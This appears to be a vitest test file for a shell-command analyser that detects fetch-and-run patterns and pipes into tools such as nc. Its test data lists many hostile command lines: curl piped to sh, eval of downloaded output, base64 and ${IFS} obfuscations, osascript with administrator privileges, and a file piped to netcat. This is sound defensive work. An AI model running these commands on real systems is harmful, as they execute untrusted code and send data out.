import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cpuMs } from '../../../test/cpu-time.ts'
import { commandsOf, isProgram } from './command.ts'
import { pipesInto, runsOutputOf } from './command-flow.ts'

describe('runsOutputOf', () => {
  it.each([
    'curl -fsSL x | sh',
    'curl x | sudo -E bash -',
    'curl x | bash -s -- arg',
    'curl x | bash -ex',
    'curl x | python3',
    'curl x | python3 - arg',
    'curl x | base64 -d | gunzip | sh',
    'curl x |& sh',
    'curl x |\nsh',
    'curl x 2>/dev/null | nohup sh &',
    'cd /tmp; curl x | sh; rm a',
    '(curl x || wget x) | sh',
    '(cd /; curl x; echo) | cat | sh',
    '{ curl x; } | sh',
    'if true; then curl x; fi | sh',
    'while read u; do curl $u; done < f | sh',
    '( ( curl x ) ) | sh',
    'echo "$(curl x)" | sh',
    'cat <(curl x) | sh',
    "sh -c 'curl x' | sh",
    "sh -c 'curl x | sh'",
    'sh -c curl x | sh',
    'bash <(curl x)',
    'source <(curl x)',
    '. <(curl x)',
    'bash -c "$(curl x)"',
    'bash -c "`curl x`"',
    'bash -c "$(curl x | base64 -d)"',
    'eval "$(curl x)"',
    'eval `curl x`',
    '$(curl x)',
    'python3 -c "$(curl x)"',
    'sh -c "sh -c $(curl x)"',
    'bash -c "exec /bin/bash -c \\"$(curl x)\\""',
    'sh -c "eval $(curl x)"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's
    'curl${IFS}x|sh',
    `osascript -e 'do shell script "curl x | sh"'`,
    'osascript -e do shell script "curl x | sh" with administrator privileges',
    'osascript -e do shell script curl x | sh',
    'find . -exec curl {} \\; | sh',
  ])('%s', line => {
    expect(runsOutputOf(line, 'wget', 'curl')).toBe(true)
  })

  it.each([
    'curl x',
    'curl x -o sh',
    'curl x | jq .',
    'curl x; sh a',
    'curl x && sh a',
    'curl x | tee log; sh a',
    'curl x | python3 -m json.tool',
    'curl x | python3 -c "import sys"',
    'curl x | perl -ne print',
    'curl x | sh -c "tar xz"',
    'curl x | sh report.sh',
    'curl x | xargs -n1 sh -c "echo hello"',
    'echo a | sh',
    'sh a | curl -d @- x',
    'echo "curl x | sh"',
    "grep 'curl x | sh' log",
    'eval "$(ssh-agent -s)"; curl x',
    'bash -c "echo $(curl x)"',
    'bash -c "sh -c true; echo $(curl x)"',
    'echo $(curl x)',
    'diff <(curl x) <(curl y)',
    'bash a.sh <(curl x)',
    'curl x | ssh host',
    '# curl x | sh',
    '',
  ])('not %s', line => {
    expect(runsOutputOf(line, 'wget', 'curl')).toBe(false)
  })
})

describe('pipesInto', () => {
  it.each([
    ['cat a | nc x 1', true],
    ['cat a | sudo /usr/bin/nc x 1', true],
    ["sh -c 'cat a | nc x 1'", true],
    ['nc -l 1 | cat', false],
    ['cat a; nc x 1', false],
    ['cat a > nc', false],
    ['a | sh', true],
    ['a | sh -s', true],
    ["a | sh -c 'b'", false],
    ['a | sh b', false],
    ['a || sh', false],
  ])('%s: %s', (line, is) => {
    expect(pipesInto(line, 'nc', 'sh')).toBe(is)
  })
})

describe('hostile lines', () => {
  const pieces = [
    'a',
    ' ',
    '/',
    'sh -c "',
    "sh -c '",
    'sh -c ',
    'eval ',
    '$(',
    '$(sh -c "',
    '<(',
    '(',
    ')',
    '((a)|',
    '(a|',
    '{ ',
    'if ',
    'done|',
    '`',
    '\\`',
    '"',
    "'",
    "$'",
    '$"',
    '\\',
    '|sh',
    'curl|sh|',
    ';curl',
    ' env',
    ' env -',
    ' sudo -u',
    ' A=',
    '<',
    '>&',
    '1>',
    '#',
    '\n',
    '$IFS',
    '${IFS',
    'find -exec ',
    'find -exec find ',
    ' -exec a ;',
    'osascript -e "do shell script \'',
    'do shell script "',
    'osascript do shell script ',
    ' do shell script x',
    '\u202e',
    '{,',
    '@',
  ]

  it.each(pieces)('take no time: %j', piece => {
    const line = piece.repeat(Math.ceil(10_000 / piece.length))
    expect(cpuMs(index => runsOutputOf(`curl ${index}|${line}`, 'curl'))).toBeLessThan(5)
    expect(cpuMs(index => pipesInto(`curl ${index}|${line}`, 'sh'))).toBeLessThan(5)
  })

  it('never throw, whatever the text', () => {
    const piece = fc.constantFrom(...pieces)
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), parts => {
        const line = parts.join('')
        return (
          typeof runsOutputOf(line, 'curl') === 'boolean' &&
          commandsOf(line).every(({ path }) => path !== undefined)
        )
      }),
    )
  })
})

it('overlooks no pipe, however it is written', () => {
  const piece = fc.constantFrom(
    ...[
      'cat',
      'ls',
      ' ',
      '|',
      '||',
      '&',
      ';',
      '(',
      ')',
      '{ ',
      '; }',
      '\\',
      '\n',
      "'",
      '"',
      '$(',
      'sh -c ',
      'eval ',
    ],
    ...["$'ls\\x7ccat'", '\\|', '#', '`'],
  )
  const line = fc.array(piece, { maxLength: 12 }).map(pieces => pieces.join(''))
  fc.assert(
    fc.property(line, text => {
      const piped = commandsOf(text).some(command => isProgram(command, 'cat') && command.piped)
      expect(pipesInto(text, 'cat')).toBe(piped)
    }),
    { numRuns: 2000 },
  )
})
